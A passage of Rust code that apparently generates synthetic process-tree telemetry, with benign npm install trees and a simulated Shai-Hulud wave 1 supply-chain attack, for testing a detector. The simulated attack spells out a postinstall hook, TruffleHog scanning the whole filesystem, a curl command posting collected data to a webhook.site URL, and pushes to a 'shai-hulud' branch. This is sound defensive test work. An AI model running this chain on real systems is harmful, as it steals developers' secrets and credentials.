            ),
            12_000,
            opts(),
        );
        self.spawn(
            &bun.proc,
            bun.start_ts + 14_000,
            image("/usr/bin/git", &["git", "push", "origin", "main"]),
            1_500,
            opts(),
        );
    }

    /// Shai-Hulud wave 1: `postinstall: node bundle.js` runs TruffleHog and exfiltrates.
    fn shai_hulud_1(&mut self, npm: &Proc, at: i64, m: &[Mark]) {
        let p = paths(self.host);
        let sh = self.spawn(npm, at, sh_c(&p, "node bundle.js"), 20_000, marks(m));
        let bundle = self.spawn(
            &sh.proc,
            sh.start_ts + 4,
            image(p.node, &["node", "bundle.js"]),
            19_000,
            opts(),
        );
        self.spawn(
            &bundle.proc,
            bundle.start_ts + 800,
            image(
                "/tmp/trufflehog",
                &["trufflehog", "filesystem", "/", "--json"],
            ),
            9_000,
            opts(),
        );
        let hook = format!("https://webhook.site/{}", self.rng.uuid());
        self.spawn(
            &bundle.proc,
            bundle.start_ts + 10_200,
            image(
                "/usr/bin/curl",
                &["curl", "-s", "-d", "@/tmp/data.json", &hook],
            ),
            700,
            opts(),
        );
        self.spawn(
            &bundle.proc,
            bundle.start_ts + 11_000,
            image(
                "/usr/bin/git",
                &["git", "push", "-u", "origin", "shai-hulud"],
            ),
            1_600,
            opts(),
        );
        self.spawn(
            &bundle.proc,
            bundle.start_ts + 13_000,
            image("/usr/bin/bash", &["bash", "/tmp/processor.sh"]),
            2_000,
            opts(),
        );
    }
}

/// How many lifecycle children a benign tree gets.
#[derive(Debug, Clone, Copy)]
enum Children {
    /// This many.
    Exactly(usize),
    /// One or two, drawn from the generator's random stream.
    Random,
}

/// How the children of an npm-like process are reported.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum ChildStyle {
    Normal,
    SyntheticParent,
    SyntheticChild,
    NoParentName,
    ForkOnly,
}

/// What an install tree turned out to be (for the summary).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum InstallOutcome {
    /// No lifecycle scripts: the npm process has no children.
    NoScripts,
    /// Lifecycle scripts ran; the tree's kind.
    Scripts(TreeKind),
}
